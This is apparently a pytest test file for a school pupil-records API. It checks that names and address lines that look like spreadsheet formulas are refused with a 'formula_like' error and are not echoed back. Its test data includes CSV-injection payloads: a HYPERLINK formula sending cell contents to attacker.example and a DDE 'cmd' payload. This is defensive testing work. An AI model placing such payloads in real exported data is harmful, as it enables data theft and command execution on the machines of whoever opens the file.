"""Names and address lines that a spreadsheet would run as a formula are refused where they come
in (422, code ``formula_like``, the value never echoed); phone numbers, which start with ``+`` in
E.164, are not free text and are not refused."""

from __future__ import annotations

import importlib
import pkgutil
import re
from collections.abc import Iterator
from typing import Annotated, Any

import httpx
import pytest
from pydantic import TypeAdapter, ValidationError
from sqlalchemy.ext.asyncio import AsyncSession

# The app first, so the schema modules are imported in the order it imports them.
import app.main
import app.schemas
from app.models.schools import School
from app.rules.formulas import is_formula_like
from app.rules.kent import District
from app.schemas.common import Input
from tests.conftest import AuthHeaders
from tests.factories import (
    agreement_body,
    make_pupil,
    make_recipient,
    make_school,
    make_upn,
    manager_headers,
    recipient_body,
    school_body,
)
from tests.test_roll_api import CSV_HEADER, csv_row, pupil_row, put_csv, put_roll, roll

FORMULAS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=cmd|' /C calc'!A0",
    "  =1+1",
]

#: One per trigger, short enough for every field (a title is at most 20 characters).
SHORT_FORMULAS = ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "  =1"]


def formula_errors(response: httpx.Response) -> set[str]:
    """The pointers of the ``formula_like`` problems in a 422 (checking nothing is echoed)."""
    assert response.status_code == 422, response.text
    body = response.json()
    for formula in FORMULAS:
        assert formula.strip() not in response.text
    return {e["pointer"] for e in body["errors"] if e["code"] == "formula_like"}


@pytest.fixture
async def east(session: AsyncSession) -> School:
    return await make_school(session, district=District.THANET, name="Seaview Primary School")


def pupil_body(urn: int, **overrides: object) -> dict[str, object]:
    body: dict[str, object] = {
        "upn": make_upn(),
        "legal_forename": "Ada",
        "legal_surname": "Synthetic",
        "date_of_birth": "2014-02-28",
        "gender": "female",
        "address_lines": ["1 Synthetic Street", "Margate"],
        "postcode": "CT9 1AA",
        "enrolment": {"school_urn": urn, "on_roll_from": "2024-09-01"},
    }
    body.update(overrides)
    return body


class TestPeople:
    @pytest.mark.parametrize("formula", FORMULAS)
    async def test_a_pupil_named_or_addressed_like_a_formula_is_refused(
        self, client: httpx.AsyncClient, auth: AuthHeaders, east: School, formula: str
    ) -> None:
        body = pupil_body(
            east.urn,
            legal_surname=formula,
            preferred_forename=formula,
            address_lines=["1 Synthetic Street", formula],
        )
        response = await client.post("/v1/pupils", json=body, headers=manager_headers(auth))
        assert formula_errors(response) == {
            "/legal_surname",
            "/preferred_forename",
            "/address_lines/1",
        }

    async def test_phone_numbers_and_ordinary_names_are_accepted(
        self, client: httpx.AsyncClient, auth: AuthHeaders, east: School
    ) -> None:
        body = pupil_body(
            east.urn,
            legal_forename="Zoë-Ann",  # a hyphen inside a name is fine
            legal_surname="O\u2019Keeffe",
            address_lines=["Flat 2, 10-12 High Street", "Margate"],
            phone="+447700900123",
        )
        response = await client.post("/v1/pupils", json=body, headers=manager_headers(auth))
        assert response.status_code == 201, response.text
        assert response.json()["phone"] == "+447700900123"

    async def test_a_carer_named_like_a_formula_is_refused(
        self, client: httpx.AsyncClient, auth: AuthHeaders, session: AsyncSession, east: School
    ) -> None:
        pupil = await make_pupil(session, school=east)
        response = await client.post(
            f"/v1/pupils/{pupil.id}/carers",
            json={
                "carer": {
                    "title": "=Mx",
                    "forename": "Sam",
                    "surname": "@Example",
                    "address_lines": ["-1 High Street"],
                    "phone": "+447700900222",
                },
                "relationship_type": "guardian",
                "parental_responsibility": True,
                "lives_with": True,
            },
            headers=manager_headers(auth),
        )
        assert formula_errors(response) == {
            "/carer/title",
            "/carer/surname",
            "/carer/address_lines/0",
        }


class TestRoll:
    @pytest.fixture
    async def school(self, session: AsyncSession) -> School:
        return await make_school(session)

    @pytest.fixture
    def mis(self, auth: AuthHeaders, school: School) -> dict[str, str]:
        return auth("mis_integration", subject="mis-1", school_urns=(school.urn,))

    async def test_a_json_roll_with_formula_names_is_refused(
        self, client: httpx.AsyncClient, school: School, mis: dict[str, str]
    ) -> None:
        row = pupil_row(legal_forename="=1+1")
        row["carers"][0]["forename"] = "+cmd"
        response = await put_roll(client, school.urn, roll(row), mis)
        assert formula_errors(response) == {
            "/pupils/0/legal_forename",
            "/pupils/0/carers/0/forename",
        }

    async def test_a_csv_roll_with_a_formula_address_names_the_row_and_column(
        self, client: httpx.AsyncClient, school: School, mis: dict[str, str]
    ) -> None:
        text = "\r\n".join(
            [CSV_HEADER, csv_row(make_upn(), address_line_1="@SUM(1+1)", carer_1_surname="-x")]
        )
        response = await put_csv(client, school.urn, text, mis)
        errors = {(e["row"], e["field"], e["code"]) for e in response.json()["errors"]}
        assert {(1, "address_line_1", "formula_like"), (1, "carer_1_surname", "formula_like")} <= (
            errors
        )
        assert "SUM(1+1)" not in response.text


class TestReferenceData:
    async def test_schools_recipients_agreements_and_clients(
        self, client: httpx.AsyncClient, auth: AuthHeaders, session: AsyncSession
    ) -> None:
        admin = auth("admin")
        school = await client.post(
            "/v1/schools", json=school_body(118970, name="=cmd"), headers=admin
        )
        assert formula_errors(school) == {"/name"}
        recipient = await client.post(
            "/v1/recipients", json=recipient_body("formula-test", name="+cmd"), headers=admin
        )
        assert formula_errors(recipient) == {"/name"}
        existing = await make_recipient(session)
        agreement = await client.post(
            "/v1/sharing-agreements",
            json=agreement_body(existing.id, name="@cmd"),
            headers=admin,
        )
        assert formula_errors(agreement) == {"/name"}
        registered = await client.post(
            "/v1/clients",
            json={"name": "-cmd", "role": "partner", "org": "kent-police"},
            headers=admin,
        )
        assert formula_errors(registered) == {"/name"}


# --- every name and address field, now and later ---------------------------------------------

#: Request fields that hold a name or an address line.
NAME_OR_ADDRESS = re.compile(
    r"(^|_)(name|names|forename|surname|title|organisation|address_lines)$"
)


def input_models() -> Iterator[type[Input]]:
    for module in pkgutil.iter_modules(app.schemas.__path__):
        importlib.import_module(f"app.schemas.{module.name}")
    pending: list[type[Input]] = [Input]
    while pending:
        model = pending.pop()
        pending.extend(model.__subclasses__())
        yield model


def name_and_address_fields() -> list[tuple[str, Any]]:
    found = []
    for model in input_models():
        if model.__name__.endswith("Filters"):
            continue  # search terms: looked for, never stored or exported
        for name, field in model.model_fields.items():
            if NAME_OR_ADDRESS.search(name):
                annotation: Any = field.annotation
                if field.metadata:
                    annotation = Annotated[(annotation, *field.metadata)]
                found.append((f"{model.__name__}.{name}", annotation))
    return found


FIELDS = name_and_address_fields()


def test_the_fields_are_found() -> None:
    names = {name for name, _ in FIELDS}
    assert {
        "PupilCreate.legal_surname",
        "CarerCreate.address_lines",
        "RollCarer.forename",
        "RecipientCreate.name",
        "ClientCreate.name",
        "SchoolCreate.name",
        "LeadProfessional.organisation",
    } <= names


@pytest.mark.parametrize(("field", "annotation"), FIELDS, ids=[name for name, _ in FIELDS])
def test_every_name_and_address_field_refuses_formulas(field: str, annotation: Any) -> None:
    adapter: TypeAdapter[Any] = TypeAdapter(annotation)
    for formula in SHORT_FORMULAS:
        value: Any = [formula] if field.endswith(("address_lines", "other_names")) else formula
        with pytest.raises(ValidationError) as refused:
            adapter.validate_python(value)
        assert {e["type"] for e in refused.value.errors()} == {"formula_like"}, formula


@pytest.mark.parametrize(
    ("text", "formula_like"),
    [
        ("=1+1", True),
        ("+44", True),
        ("-1", True),
        ("@x", True),
        ("\tx", True),
        ("\rx", True),
        ("   =x", True),
        ("O'Neill", False),
        ("Zoë-Ann", False),
        ("1 High Street", False),
        ("", False),
        ("x=1", False),
    ],
)
def test_what_counts_as_formula_like(text: str, formula_like: bool) -> None:
    assert is_formula_like(text) is formula_like
